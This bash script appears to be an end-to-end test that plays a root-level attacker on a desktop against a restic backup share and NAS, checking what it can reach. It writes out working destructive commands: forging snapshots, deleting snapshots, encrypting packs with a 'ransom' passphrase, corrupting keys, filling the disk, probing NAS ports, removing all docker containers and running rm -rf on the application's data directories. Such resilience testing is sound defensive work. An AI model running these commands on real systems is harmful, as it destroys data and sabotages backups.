#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# What someone who became root on the desktop does to the backups and to the NAS, with what lies on the desktop.
# Prints what it could reach; tests/e2e/test_story_attack.py checks that this is only the share of the backups.
set -u
nas=$1
share=/srv/tars/backup
repository=$share/repository
export RESTIC_PASSWORD_FILE=/opt/tars/secrets/backup_key XDG_CACHE_HOME=/root/cache
restic="/opt/tars/bin/restic --repo $repository"
ls $share >/dev/null
systemctl stop tars-backup.timer tars-backup.service

echo "== forge backups of the past and of the future"
mkdir -p /root/forged/postgres && echo forged > /root/forged/postgres/rows
for time in "2026-01-01 00:00:00" "2099-01-01 00:00:00"; do
    (cd /root/forged && $restic backup . --host tars --tag tars --tag id=20990101T000000Z-0000feed --time "$time" --quiet) && echo forged
done
printf '{"id": "20990101T000000Z-0000feed", "made_at": "2099-01-01T00:00:00Z", "content": "%064d", "manifest": "%064d"}' 0 0 \
    > $share/good/20990101T000000Z-0000feed.json

echo "== plant locks"
for content in one two three; do
    echo $content > $repository/locks/"$(echo $content | sha256sum | cut -d ' ' -f 1)"
done

echo "== delete snapshots, encrypt packs, truncate an index, damage the key"
find $repository/snapshots -type f -delete
find $repository/data -type f | while read -r pack; do
    openssl enc -aes-256-cbc -pbkdf2 -pass pass:ransom -in "$pack" -out "$pack.locked" && mv -f "$pack.locked" "$pack"
done
find $repository/index -type f -exec truncate --size=10 {} +
for file in "$repository"/config "$repository"/keys/*; do chmod u+w "$file" && head -c 300 /dev/urandom > "$file"; done

echo "== fill the share"
head -c 268435456 /dev/zero > $share/filler && echo filled

echo "== try the NAS itself: ssh, DSM, SMB; NFS answers, or these tests prove nothing"
for port in 22 80 139 443 445 2049 5000 5001; do
    timeout 3 bash -c "</dev/tcp/$nas/$port" 2>/dev/null && echo "REACHED port $port"
done
touch /srv/tars/documents/LLM_docs/ransom 2>/dev/null && echo "REACHED the documents"

echo "== destroy the data"
docker ps --all --quiet | xargs --no-run-if-empty docker rm --force >/dev/null
rm -rf /var/lib/tars /opt/tars
echo "== done"
